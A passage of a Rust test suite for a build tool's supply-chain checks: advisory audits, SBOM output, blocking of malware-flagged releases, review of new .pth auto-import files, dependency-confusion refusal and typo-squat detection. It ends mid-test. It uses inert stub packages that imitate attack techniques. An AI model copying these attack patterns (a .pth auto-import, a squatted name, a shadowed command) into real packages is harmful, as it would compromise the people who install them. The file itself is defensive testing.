//! Audits: pinned packages matched against an advisory snapshot that is
//! itself pinned (a git repository of PyPA-style YAML records and the
//! Debian tracker's JSON, plus an OSV export zip served on 127.0.0.1),
//! cross-checked against pip-audit on a loopback OSV mock; malware
//! records stop `build` and `track`.

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Write;
use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};
use support::archive::{self, tar_gz};
use support::http::Server;
use support::pypi::{conf, publish, pypi_element, sha256, wheel};
use support::server::{ServerProcess, free_port};
use support::{CONF, git, project};

/// PyPA's own record for lib, as its database writes it (YAML), and the
/// same as JSON for the OSV mock.
const LIB_YAML: &str = "id: PYSEC-2024-1
modified: 2024-03-01T00:00:00Z
published: 2024-02-01T00:00:00Z
aliases:
- CVE-2024-1001
details: Remote code execution in lib's template loader.
severity:
- type: CVSS_V3
  score: CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H
affected:
- package:
    name: lib
    ecosystem: PyPI
  ranges:
  - type: ECOSYSTEM
    events:
    - introduced: \"0\"
    - fixed: 1.2.0
  versions:
  - \"0.9\"
  - \"1.0\"
";

fn lib_json() -> Value {
    json!({
        "id": "PYSEC-2024-1", "modified": "2024-03-01T00:00:00Z", "published": "2024-02-01T00:00:00Z",
        "aliases": ["CVE-2024-1001"], "details": "Remote code execution in lib's template loader.",
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"}],
        "affected": [{"package": {"name": "lib", "ecosystem": "PyPI"},
          "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.2.0"}]}],
          "versions": ["0.9", "1.0"]}]
    })
}

/// The records of the export zip (OSV JSON, one per file).
fn zip_records() -> Vec<Value> {
    let pypi = |name: &str, events: Value| json!([{"package": {"ecosystem": "PyPI", "name": name}, "ranges": [{"type": "ECOSYSTEM", "events": events}]}]);
    vec![
        // The same vulnerability as PYSEC-2024-1, seen by GitHub.
        json!({"id": "GHSA-4x7p-9q2m-v3c8", "modified": "2024-03-02T00:00:00Z", "aliases": ["CVE-2024-1001"],
               "summary": "lib: code execution in templates", "database_specific": {"severity": "HIGH"},
               "affected": pypi("Lib", json!([{"introduced": "0"}, {"fixed": "1.2.0"}]))}),
        // Fixed long before the pinned version.
        json!({"id": "PYSEC-2022-3", "modified": "2022-05-01T00:00:00Z", "summary": "old",
               "affected": pypi("lib", json!([{"introduced": "0"}, {"fixed": "0.9"}]))}),
        // Withdrawn: never reported.
        json!({"id": "PYSEC-2023-5", "modified": "2023-05-01T00:00:00Z", "withdrawn": "2023-06-01T00:00:00Z",
               "summary": "false alarm", "affected": [{"package": {"ecosystem": "PyPI", "name": "lib"}, "versions": ["1.0"]}]}),
        // Malware: versions only, as ossf/malicious-packages writes them.
        json!({"id": "MAL-2026-7", "modified": "2026-01-05T00:00:00Z", "summary": "Malicious code in evil (PyPI)",
               "affected": [{"package": {"ecosystem": "PyPI", "name": "evil"}, "versions": ["1.0", "2.0"]}]}),
        // Debian: the source package glibc, release 12 and (not matching) 11.
        json!({"id": "DSA-5700-1", "modified": "2024-05-01T00:00:00Z", "aliases": ["CVE-2024-33599"],
               "summary": "glibc security update",
               "affected": [
                 {"package": {"ecosystem": "Debian:12", "name": "glibc"},
                  "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.36-9+deb12u4"}]}]},
                 {"package": {"ecosystem": "Debian:11", "name": "glibc"},
                  "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.31-13+deb11u9"}]}]}]}),
    ]
}

/// The Debian security tracker's view of glibc.
const TRACKER: &str = r#"{"glibc": {
  "CVE-2024-2961": {"description": "iconv() ISO-2022-CN-EXT overflow", "releases": {
    "bookworm": {"status": "resolved", "fixed_version": "2.36-9+deb12u6", "urgency": "high",
                 "repositories": {"bookworm": "2.36-9+deb12u4"}}}},
  "CVE-2019-1010022": {"description": "stack guard bypass", "releases": {
    "bookworm": {"status": "open", "urgency": "unimportant"}}},
  "CVE-2010-4756": {"description": "not affecting bookworm", "releases": {
    "bookworm": {"status": "resolved", "fixed_version": "0"}}}
}}"#;

/// A .deb of binary package `package` built from source `source`.
fn deb_of(package: &str, source: &str, version: &str) -> Vec<u8> {
    let control = format!("Package: {package}\nSource: {source}\nVersion: {version}\nArchitecture: amd64\n");
    let control = tar_gz(&[("./control", control.as_bytes(), 0o644)]);
    archive::deb(&control, "data.tar.gz", &tar_gz(&[]))
}

fn pinned_pip(name: &str, version: &str) -> String {
    format!(
        "kind: pip\nsources:\n- kind: pypi\n  url: pypi:simple/\n  name: {name}\n  ref:\n    version: '{version}'\n    filename: {name}-{version}-py3-none-any.whl\n    sha256: {}\n",
        sha256(format!("{name} {version}").as_bytes())
    )
}

struct Fixture {
    project: support::TestProject,
    server: Server,
}

/// A project pinning lib 1.0 (vulnerable), clean 2.0, evil 1.0 (malware)
/// and libc6 from glibc 2.36-9+deb12u3, with advisories.bst pinning the
/// snapshot: a git repository (YAML records, tracker JSON) and a zip.
fn fixture() -> Fixture {
    let server = Server::start();
    let deb = deb_of("libc6", "glibc", "2.36-9+deb12u3");
    let deb_path = "pool/main/g/glibc/libc6_2.36-9+deb12u3_amd64.deb";
    server.serve(&format!("/debian/{deb_path}"), &deb);

    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for record in zip_records() {
        let id = record["id"].as_str().unwrap().to_string();
        zip.start_file(format!("{id}.json"), zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(record.to_string().as_bytes()).unwrap();
    }
    let all_zip = zip.finish().unwrap().into_inner();
    server.serve("/osv/all.zip", &all_zip);

    let p = project(&format!("{}  debian: {}/debian/\n  osv: {}/osv/\n", conf(&server), server.base, server.base))
        .file("elements/lib.bst", &pinned_pip("lib", "1.0"))
        .file("elements/clean.bst", &pinned_pip("clean", "2.0"))
        .file("elements/evil.bst", &pinned_pip("evil", "1.0"))
        .file(
            "elements/libc.bst",
            &format!(
                "kind: deb\nsources:\n- kind: deb\n  url: 'debian:'\n  suite: bookworm\n  keyring: keys/archive.gpg\n  package: libc6\n  ref:\n    version: 2.36-9+deb12u3\n    filename: {deb_path}\n    sha256: {}\n",
                sha256(&deb)
            ),
        )
        .file(
            "elements/app.bst",
            "kind: stack\ndepends:\n- lib.bst\n- clean.bst\n- libc.bst\n",
        )
        .file("keys/archive.gpg", "")
        .build();

    let repo = p.outside().join("advisory-db");
    git::init(&repo);
    fs::create_dir_all(repo.join("vulns/lib")).unwrap();
    fs::write(repo.join("vulns/lib/PYSEC-2024-1.yaml"), LIB_YAML).unwrap();
    fs::write(repo.join("vulns/.id-allocator"), "PYSEC-2024-2\n").unwrap();
    fs::create_dir_all(repo.join("triage")).unwrap();
    fs::write(repo.join("triage/false_positives.yaml"), "ids:\n- CVE-2020-1\n").unwrap();
    let commit = git::commit(&repo, "debian/tracker.json", TRACKER);
    p.write(
        "elements/advisories.bst",
        &format!(
            "kind: advisories\nsources:\n- kind: git\n  url: file://{}\n  track: main\n  ref: {commit}\n- kind: remote\n  url: osv:all.zip\n  ref: {}\nconfig:\n  paths: [vulns, debian, all.zip]\n",
            repo.display(),
            sha256(&all_zip)
        ),
    );
    Fixture { project: p, server }
}

/// Package → ids forge reports for it, from `forge audit --format json`.
fn reported(report: &Value) -> BTreeMap<String, BTreeSet<String>> {
    report["dependencies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            let ids = d["vulns"].as_array().unwrap().iter();
            (
                d["name"].as_str().unwrap().to_string(),
                ids.map(|v| v["id"].as_str().unwrap().to_string()).collect(),
            )
        })
        .collect()
}

#[test]
fn audit_reports_what_the_pinned_snapshot_says_of_every_pin() {
    let Fixture { project: p, server } = fixture();
    let run = p.forge(&["audit", "app.bst", "evil.bst", "--format", "json"]);
    assert_eq!(run.code, 6, "findings fail the run: {}", run.stderr);
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    let expected: BTreeMap<String, BTreeSet<String>> = [
        ("lib", &["PYSEC-2024-1"][..]),
        ("clean", &[]),
        ("evil", &["MAL-2026-7"]),
        ("glibc", &["CVE-2019-1010022", "CVE-2024-2961", "DSA-5700-1"]),
    ]
    .into_iter()
    .map(|(n, ids)| (n.to_string(), ids.iter().map(|s| s.to_string()).collect()))
    .collect();
    assert_eq!(reported(&report), expected, "{}", run.stdout);
    // Aliases merged, the PyPA id first; fixes; severity from the vector.
    let lib = &report["dependencies"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["name"] == "lib")
        .unwrap()["vulns"][0];
    assert_eq!(lib["aliases"], json!(["CVE-2024-1001", "GHSA-4x7p-9q2m-v3c8"]));
    assert_eq!(lib["fix_versions"], json!(["1.2.0"]));
    assert_eq!(lib["severity"], "high");
    assert_eq!(lib["cvss"], 7.5);
    let glibc = report["dependencies"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["name"] == "glibc")
        .unwrap();
    assert_eq!(glibc["element"], "libc.bst");
    assert_eq!(glibc["version"], "2.36-9+deb12u3");
    assert_eq!(glibc["ecosystem"], "Debian:12");
    // Records: 4 of the zip + lib's + 2 of the tracker; the withdrawn one apart.
    assert_eq!(report["snapshot"]["records"], 7, "{}", report["snapshot"]);
    assert_eq!(report["snapshot"]["withdrawn"], 1);
    assert!(run.stderr.contains("4 packages (3 PyPI, 1 Debian)"), "{}", run.stderr);

    // Thresholds: lib's finding is high, so --fail-on critical passes it.
    p.forge(&["audit", "lib.bst", "--fail-on", "critical"]).ok();
    p.forge(&["audit", "lib.bst", "--fail-on", "high"]).fails(6);
    p.forge(&["audit", "clean.bst"]).ok();
    // The snapshot comes from the source cache: offline, same answer.
    let hits = server.hits("/osv/all.zip");
    let table = p.forge(&["audit", "app.bst", "evil.bst", "--fail-on", "none"]).ok();
    assert_eq!(server.hits("/osv/all.zip"), hits, "the pinned snapshot is fetched once");
    assert!(
        table.contains("PYSEC-2024-1") && table.contains("aliases: CVE-2024-1001, GHSA-4x7p-9q2m-v3c8"),
        "{table}"
    );
    let mal = table.lines().find(|l| l.contains("MAL-2026-7")).unwrap();
    assert!(mal.contains("malware") && mal.contains("evil.bst"), "{table}");
    let again = p
        .forge(&["audit", "app.bst", "evil.bst", "--format", "json", "--fail-on", "none"])
        .ok();
    assert_eq!(again, run.stdout, "the same snapshot gives the same report");
}

#[test]
fn audit_writes_a_cyclonedx_bill_with_its_vulnerabilities() {
    // The server stays up for the snapshot's fetch.
    let Fixture { project: p, server } = fixture();
    let run = p.forge(&["audit", "app.bst", "--format", "cyclonedx"]);
    assert_eq!(run.code, 6, "findings still fail the run: {}", run.stderr);
    let bom: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(bom["metadata"]["component"]["bom-ref"], "element:app.bst");
    let vulns = bom["vulnerabilities"].as_array().unwrap();
    let ids: BTreeSet<&str> = vulns.iter().map(|v| v["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        ["PYSEC-2024-1", "CVE-2019-1010022", "CVE-2024-2961", "DSA-5700-1"]
            .into_iter()
            .collect()
    );
    let lib = vulns.iter().find(|v| v["id"] == "PYSEC-2024-1").unwrap();
    assert_eq!(lib["ratings"][0]["severity"], "high");
    assert_eq!(lib["ratings"][0]["score"], 7.5);
    assert_eq!(lib["recommendation"], "Upgrade to 1.2.0");
    assert_eq!(lib["references"][0]["id"], "CVE-2024-1001");
    assert_eq!(
        lib["affects"],
        json!([{ "ref": "source:lib.bst:1", "versions": [{ "version": "1.0", "status": "affected" }] }])
    );
    // The component it names is the pinned wheel.
    let component = bom["components"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["bom-ref"] == "source:lib.bst:1")
        .unwrap();
    assert_eq!(component["purl"], "pkg:pypi/lib@1.0");
    let err = p
        .forge(&["audit", "lib.bst", "clean.bst", "--format", "cyclonedx"])
        .fails(2);
    assert!(err.contains("--format cyclonedx describes one element"), "{err}");
    // SPDX: the affected package names its advisories.
    let spdx = p.forge(&["audit", "app.bst", "--format", "spdx"]);
    assert_eq!(spdx.code, 6, "{}", spdx.stderr);
    let spdx: Value = serde_json::from_str(&spdx.stdout).unwrap();
    let lib = spdx["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "lib")
        .unwrap();
    assert_eq!(lib["externalRefs"][1]["referenceCategory"], "SECURITY");
    assert_eq!(
        lib["externalRefs"][1]["referenceLocator"],
        "https://osv.dev/vulnerability/PYSEC-2024-1"
    );
    if let Some(tools) = std::env::var_os("FORGE_TEST_SBOM_TOOLS") {
        let file = p.outside().join("audit.spdx.json");
        // spdx-tools takes only URLs with a domain name (see tests/sbom.rs).
        fs::write(
            &file,
            spdx.to_string().replace(&server.base, "https://mirror.example.org"),
        )
        .unwrap();
        let out = std::process::Command::new(Path::new(&tools).join("pyspdxtools"))
            .args(["-i", file.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }

    // CycloneDX's own schema, strictly, where .ci/run installs it.
    let Some(tools) = std::env::var_os("FORGE_TEST_SBOM_TOOLS") else {
        eprintln!("skipped the schema: set FORGE_TEST_SBOM_TOOLS (.ci/run does)");
        return;
    };
    let script = "import sys\n\
        from cyclonedx.validation.json import JsonStrictValidator\n\
        from cyclonedx.schema import SchemaVersion\n\
        print(JsonStrictValidator(SchemaVersion.V1_6).validate_str(sys.stdin.read()))\n";
    let mut child = std::process::Command::new(Path::new(&tools).join("python3"))
        .args(["-c", script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(run.stdout.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "None");
}

#[test]
fn a_project_without_a_snapshot_is_told_how_to_add_one() {
    let p = project(CONF).file("elements/a.bst", "kind: stack\n").build();
    let err = p.forge(&["audit", "a.bst"]).fails(2);
    assert!(
        err.contains("no advisory snapshot") && err.contains("kind `advisories`"),
        "{err}"
    );
    p.write("elements/x.bst", "kind: stack\n");
    let err = p.forge(&["audit", "a.bst", "--advisories", "x.bst"]).fails(4);
    assert!(
        err.contains("x.bst is a 'stack' element, not an advisory snapshot"),
        "{err}"
    );
    p.write(
        "elements/bad.bst",
        "kind: advisories\nsources:\n- kind: local\n  path: db\n",
    );
    p.write(
        "db/PYSEC-1.json",
        "{\"id\": \"PYSEC-1\", \"affected\": [{\"ranges\": [{}]}]}",
    );
    let err = p.forge(&["audit", "a.bst", "--advisories", "bad.bst"]).fails(4);
    assert!(err.contains("bad.bst: PYSEC-1.json: a range has no 'type'"), "{err}");
}

#[test]
fn malware_records_stop_build_and_track() {
    let Fixture { project: p, server } = fixture();
    let err = p.forge(&["build", "evil.bst"]).fails(6);
    assert!(
        err.contains("malicious releases") && err.contains("evil 1.0 (evil.bst, source 1): MAL-2026-7"),
        "{err}"
    );
    assert_eq!(
        server.hits("/files/evil-1.0-py3-none-any.whl"),
        0,
        "nothing of it is fetched"
    );

    // Track: upstream's newest is 2.0, also malicious: nothing is written.
    let v2 = wheel("evil", "2.0", &[("evil/__init__.py", "STEAL = 1\n")], None);
    publish(&server, "evil", &[("evil-2.0-py3-none-any.whl", &v2, false)], true);
    p.write("elements/evil.bst", &pypi_element("evil", ">=1", ""));
    let err = p.forge(&["track", "evil.bst"]).fails(6);
    assert!(
        err.contains("evil 2.0 is reported malicious (MAL-2026-7); the pin is not written"),
        "{err}"
    );
    let text = fs::read_to_string(p.root.join("elements/evil.bst")).unwrap();
    assert!(!text.contains("ref:"), "{text}");
    // A clean release is pinned as before.
    let v3 = wheel("evil", "3.0", &[("evil/__init__.py", "OK = 1\n")], None);
    publish(
        &server,
        "evil",
        &[
            ("evil-2.0-py3-none-any.whl", &v2, false),
            ("evil-3.0-py3-none-any.whl", &v3, false),
        ],
        true,
    );
    p.forge(&["track", "evil.bst"]).ok();
    let text = fs::read_to_string(p.root.join("elements/evil.bst")).unwrap();
    assert!(
        text.contains("version: '3.0'") || text.contains("version: 3.0"),
        "{text}"
    );
}

/// pip-audit, given the same advisories through a loopback OSV mock,
/// reports the same ids and fixes for the PyPI pins as forge does.
#[test]
fn pip_audit_reports_the_same_advisories_from_the_same_records() {
    let Some(pip_audit) = std::env::var_os("FORGE_TEST_PIP_AUDIT") else {
        eprintln!("skipped: set FORGE_TEST_PIP_AUDIT to a pip-audit (.ci/run does)");
        return;
    };
    let Fixture {
        project: p,
        server: _server,
    } = fixture();
    let run = p.forge(&["audit", "lib.bst", "clean.bst", "evil.bst", "--format", "json"]);
    assert_eq!(run.code, 6, "{}", run.stderr);
    let forge: Value = serde_json::from_str(&run.stdout).unwrap();

    let records = p.outside().join("osv-records");
    fs::create_dir_all(&records).unwrap();
    for record in zip_records().into_iter().chain([lib_json()]) {
        fs::write(
            records.join(format!("{}.json", record["id"].as_str().unwrap())),
            record.to_string(),
        )
        .unwrap();
    }
    let port = free_port();
    let python = Path::new(&pip_audit).parent().unwrap().join("python");
    let mock = std::process::Command::new(python)
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/data/osv-mock.py"))
        .arg(port.to_string())
        .arg(&records)
        .spawn()
        .unwrap();
    let _mock = ServerProcess::listening(mock, port, "the OSV mock", Duration::from_secs(20));
    let requirements = p.outside().join("requirements.txt");
    fs::write(&requirements, "lib==1.0\nclean==2.0\nevil==1.0\n").unwrap();
    let out = std::process::Command::new(&pip_audit)
        .args([
            "--no-deps",
            "--disable-pip",
            "--progress-spinner",
            "off",
            "-s",
            "osv",
            "-f",
            "json",
            "-r",
        ])
        .arg(&requirements)
        .arg("--osv-url")
        .arg(format!("http://127.0.0.1:{port}/v1/query"))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(1),
        "pip-audit finds them too: {stdout} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let theirs: Value = serde_json::from_str(&stdout).unwrap();
    let fixes = |report: &Value, key: &str| -> BTreeMap<String, BTreeSet<(String, Vec<String>)>> {
        report["dependencies"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| {
                let vulns = d["vulns"].as_array().unwrap().iter().map(|v| {
                    let fixed = v[key]
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|f| f.as_str().unwrap().to_string())
                        .collect();
                    (v["id"].as_str().unwrap().to_string(), fixed)
                });
                (d["name"].as_str().unwrap().to_string(), vulns.collect())
            })
            .collect()
    };
    assert_eq!(
        fixes(&forge, "fix_versions"),
        fixes(&theirs, "fix_versions"),
        "forge: {forge}\npip-audit: {theirs}"
    );
}

#[test]
fn track_reviews_what_a_new_wheel_brings_and_strict_holds_a_new_pth_back() {
    let server = Server::start();
    let v1 = wheel(
        "lib",
        "1.0",
        &[("lib/__init__.py", "V = 1\n"), ("lib/util.py", "U = 1\n")],
        None,
    );
    let v2 = support::pypi::wheel_requiring(
        "lib",
        "2.0",
        &[
            ("lib/__init__.py", "V = 2\n"),
            ("lib_init.pth", "import lib.steal\n"),
            ("lib/steal.py", "S = 1\n"),
        ],
        Some("[console_scripts]\nls = lib.steal:run\n"),
        &["requests>=2"],
    );
    publish(&server, "lib", &[("lib-1.0-py3-none-any.whl", &v1, false)], true);
    let p = project(&conf(&server))
        .file("elements/lib.bst", &pypi_element("lib", ">=1", ""))
        .build();
    let first = p.forge(&["track", "lib.bst"]).ok();
    assert!(
        first.contains("review: 2 file(s) added, 0 removed, 0 changed"),
        "{first}"
    );
    // The project is committed with the first pin.
    git::init(&p.root);
    git::git(&p.root, &["add", "-A"]);
    git::git(&p.root, &["commit", "-q", "-m", "lib 1.0"]);

    publish(
        &server,
        "lib",
        &[
            ("lib-1.0-py3-none-any.whl", &v1, false),
            ("lib-2.0-py3-none-any.whl", &v2, false),
        ],
        true,
    );
    let before = fs::read_to_string(p.root.join("elements/lib.bst")).unwrap();
    let run = p.forge(&["track", "lib.bst", "--review", "strict"]);
    assert_eq!(run.code, 6, "{}", run.stderr);
    for line in [
        "review: 2 file(s) added, 1 removed, 1 changed",
        "! new .pth file lib_init.pth (runs at every interpreter start)",
        "· new console script 'ls' → lib.steal:run (named like a common command)",
        "· new dependency: requests>=2",
    ] {
        assert!(run.stdout.contains(line), "{line}: {}", run.stdout);
    }
    assert!(run.stderr.contains("accept with --accept lib"), "{}", run.stderr);
    assert_eq!(
        fs::read_to_string(p.root.join("elements/lib.bst")).unwrap(),
        before,
        "held back"
    );
    // Accepted by name: written.
    p.forge(&["track", "lib.bst", "--review", "strict", "--accept", "lib"])
        .ok();
    let after = fs::read_to_string(p.root.join("elements/lib.bst")).unwrap();
    assert!(after.contains("lib-2.0-py3-none-any.whl"), "{after}");

    // forge diff: the committed pin's staged sources against the new one's.
    let diff = p.forge(&["diff", "lib.bst"]).ok();
    for part in [
        "--- a/wheel/lib/__init__.py\n+++ b/wheel/lib/__init__.py\n@@ -1 +1 @@\n-V = 1\n+V = 2\n",
        "--- /dev/null\n+++ b/wheel/lib_init.pth\n@@ -0,0 +1 @@\n+import lib.steal\n",
        "--- a/wheel/lib/util.py\n+++ /dev/null\n",
        "+Requires-Dist: requests>=2\n",
    ] {
        assert!(diff.contains(part), "{part}\n{diff}");
    }
    let err = p.forge(&["diff", "lib.bst", "--from", "nosuchref"]).fails(2);
    assert!(err.contains("cannot read elements/lib.bst at nosuchref"), "{err}");
    git::git(&p.root, &["commit", "-q", "-am", "lib 2.0"]);
    let run = p.forge(&["diff", "lib.bst"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.is_empty() && run.stderr.contains("no pin differs from HEAD"),
        "{}",
        run.stderr
    );
}

/// A pip element whose pypi source names no index: it is looked up on the
/// project's configured `indexes`.
fn unnamed_index_element(name: &str) -> String {
    format!("kind: pip\nsources:\n- kind: pypi\n  name: {name}\n")
}

#[test]
fn a_package_on_two_configured_indexes_is_refused_until_its_source_names_one() {
    let public = Server::start();
    let corp = Server::start();
    let mine = wheel("corp-utils", "1.0", &[("corp_utils/__init__.py", "MINE = 1\n")], None);
    let theirs = wheel("corp-utils", "99.0", &[("corp_utils/__init__.py", "STEAL = 1\n")], None);
    let auth = wheel("corp-auth", "2.0", &[("corp_auth/__init__.py", "A = 1\n")], None);
    let requests = wheel("requests", "2.32.3", &[("requests/__init__.py", "R = 1\n")], None);
    publish(
        &corp,
        "corp-utils",
        &[("corp_utils-1.0-py3-none-any.whl", &mine, false)],
        true,
    );
    publish(
        &corp,
        "corp-auth",
        &[("corp_auth-2.0-py3-none-any.whl", &auth, false)],
        false,
    );
    // The public index: someone published the private name, at a higher version.
    publish(
        &public,
        "corp-utils",
        &[("corp_utils-99.0-py3-none-any.whl", &theirs, false)],
        true,
    );
    publish(
        &public,
        "requests",
        &[("requests-2.32.3-py3-none-any.whl", &requests, false)],
        true,
    );
    let p = project(&format!(
        "{CONF}aliases:\n  pypi: {}/\n  corp: {}/\nsources:\n  pypi:\n    config:\n      indexes: [corp:simple/, pypi:simple/]\n      target:\n        python: '3.11'\n        glibc: '2.36'\n        arch: x86_64\n",
        public.base, corp.base
    ))
    .file("elements/utils.bst", &unnamed_index_element("corp-utils"))
    .file("elements/auth.bst", &unnamed_index_element("corp-auth"))
    .file("elements/requests.bst", &unnamed_index_element("requests"))
    .file("requirements.in", "corp-auth\nrequests\n")
    .file("confused.in", "corp-utils\n")
    .build();

    let run = p.forge(&["track", "utils.bst", "auth.bst", "requests.bst"]);
    assert_eq!(run.code, 6, "a refusal, not a failure: {}", run.stderr);
    assert!(
        run.stderr.contains(
            "dependency confusion: 'corp-utils' is on 2 of the configured indexes (corp:simple/, pypi:simple/)"
        ) && run
            .stderr
            .contains("name the index to trust in the source (`url: corp:simple/`)"),
        "{}",
        run.stderr
    );
    let utils = fs::read_to_string(p.root.join("elements/utils.bst")).unwrap();
    assert!(!utils.contains("ref:"), "nothing pinned for it: {utils}");
    // Each of the others is on one index, and pinned from it.
    let pinned = |element: &str| fs::read_to_string(p.root.join("elements").join(element)).unwrap();
    assert!(pinned("auth.bst").contains(&sha256(&auth)), "{}", pinned("auth.bst"));
    assert!(pinned("requests.bst").contains(&sha256(&requests)));

    // The source names its index: only that one is asked.
    p.write(
        "elements/utils.bst",
        &format!("{}  url: corp:simple/\n", unnamed_index_element("corp-utils")),
    );
    let hits = public.hits("/simple/corp-utils/");
    p.forge(&["track", "utils.bst"]).ok();
    assert!(pinned("utils.bst").contains(&sha256(&mine)), "{}", pinned("utils.bst"));
    assert_eq!(
        public.hits("/simple/corp-utils/"),
        hits,
        "the public index is not asked"
    );

    // A fresh cache fetches each pin from the index that lists it.
    let cache = p.outside().join("fresh-cache");
    let fetched = p
        .process(&cache)
        .args(["fetch", "utils.bst", "auth.bst", "requests.bst"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&fetched.stderr);
    assert!(fetched.status.success(), "{stderr}");
    assert!(stderr.contains("3 fetched"), "{stderr}");
    assert!(stderr.contains("auth.bst: corp-auth (source 1, pypi)"), "{stderr}");

    // forge lock asks every configured index too, and each element it writes
    // names the index that serves its package.
    let err = p.forge(&["lock", "confused.in"]).fails(4);
    assert!(err.contains("dependency confusion: 'corp-utils' is on 2"), "{err}");
    assert!(!p.root.join("elements/confused").exists(), "nothing written");
    let run = p.forge(&["lock", "requirements.in"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let locked = |name: &str| fs::read_to_string(p.root.join(format!("elements/requirements/{name}.bst"))).unwrap();
    assert!(
        locked("corp-auth").contains("url: corp:simple/"),
        "{}",
        locked("corp-auth")
    );
    assert!(
        locked("requests").contains("url: pypi:simple/"),
        "{}",
        locked("requests")
    );

    // A requirements file's --extra-index-url adds an index the same way.
    p.write(
        "project.conf",
        &format!(
            "{CONF}aliases:\n  pypi: {}/\nsources:\n  pypi:\n    config:\n      target:\n        python: '3.11'\n        glibc: '2.36'\n        arch: x86_64\n",
            public.base
        ),
    );
    let extra = format!("--extra-index-url {}/simple/\n", corp.base);
    p.write("extra.in", &format!("{extra}corp-auth\n"));
    p.write("extra-confused.in", &format!("{extra}corp-utils\n"));
    let err = p.forge(&["lock", "extra-confused.in"]).fails(4);
    assert!(err.contains("dependency confusion: 'corp-utils' is on 2"), "{err}");
    p.forge(&["lock", "extra.in"]).ok();
    let auth = fs::read_to_string(p.root.join("elements/extra/corp-auth.bst")).unwrap();
    assert!(auth.contains(&format!("url: {}/simple/", corp.base)), "{auth}");
}

#[test]
fn project_conf_sets_strict_review_and_holds_typo_squats_as_errors() {
    let server = Server::start();
    let v1 = wheel("lib", "1.0", &[("lib/__init__.py", "V = 1\n")], None);
    let v2 = wheel(
        "lib",
        "2.0",
        &[("lib/__init__.py", "V = 2\n"), ("lib_init.pth", "import lib\n")],
        None,
    );
    let squat = wheel("reqeusts", "2.0", &[("reqeusts/__init__.py", "STEAL = 1\n")], None);
    publish(&server, "lib", &[("lib-1.0-py3-none-any.whl", &v1, false)], true);
    publish(
        &server,
        "reqeusts",
        &[("reqeusts-2.0-py3-none-any.whl", &squat, false)],
        true,
    );
    let gates = "sources:\n  pypi:\n    config:\n      review: strict\n      typo-squats: error\n";
    let p = project(&format!("{}{gates}", conf(&server)))
        .file("elements/lib.bst", &pypi_element("lib", ">=1", ""))
        .file("elements/squat.bst", &pypi_element("reqeusts", ">=1", ""))
        .build();
    p.forge(&["track", "lib.bst"]).ok();
    publish(
        &server,
        "lib",
        &[
            ("lib-1.0-py3-none-any.whl", &v1, false),
            ("lib-2.0-py3-none-any.whl", &v2, false),
        ],
        true,
    );
    let before = fs::read_to_string(p.root.join("elements/lib.bst")).unwrap();
    let run = p.forge(&["track", "lib.bst"]);
    assert_eq!(
        run.code, 6,
        "review: strict in project.conf holds it back: {}",
        run.stderr
    );
    assert!(run.stderr.contains("accept with --accept lib"), "{}", run.stderr);
    assert_eq!(fs::read_to_string(p.root.join("elements/lib.bst")).unwrap(), before);
    // The flag overrides the project's setting.
    p.forge(&["track", "lib.bst", "--review", "show"]).ok();
    assert!(
        fs::read_to_string(p.root.join("elements/lib.bst"))
            .unwrap()
            .contains("lib-2.0")
    );

    // typo-squats: error refuses the near miss before asking the index.
    let run = p.forge(&["track", "squat.bst"]);
    assert_eq!(run.code, 6, "{}", run.stderr);
    assert!(
        run.stderr.contains("'reqeusts' is a near miss of 'requests'") && run.stderr.contains("typo-squats-allow"),
        "{}",
        run.stderr
    );
    assert_eq!(server.hits("/simple/reqeusts/"), 0, "the index is not asked");
    assert!(
        !fs::read_to_string(p.root.join("elements/squat.bst"))
            .unwrap()
            .contains("ref:")
    );
    // Allowed by name: pinned, without a warning.
    p.write(
        "project.conf",
        &format!("{}{gates}      typo-squats-allow: [reqeusts]\n", conf(&server)),
    );
    let run = p.forge(&["track", "squat.bst"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(!run.stderr.contains("near miss"), "{}", run.stderr);
    // A misspelt setting is an error at its line.
    p.write(
        "project.conf",
        &format!(
            "{}sources:\n  pypi:\n    config:\n      typo-squats: loud\n",
            conf(&server)
        ),
    );
    let err = p.forge(&["show", "squat.bst"]).fails(3);
    assert!(
        err.contains("project.conf:") && err.contains("'typo-squats' must be one of warn, error, off, not 'loud'"),
        "{err}"
    );
}

#[test]
fn audit_yanked_reports_pins_the_index_withdrew_since() {
    let server = Server::start();
    let lib = wheel("lib", "1.0", &[("lib/__init__.py", "V = 1\n")], None);
    let clean = wheel("clean", "2.0", &[("clean/__init__.py", "C = 1\n")], None);
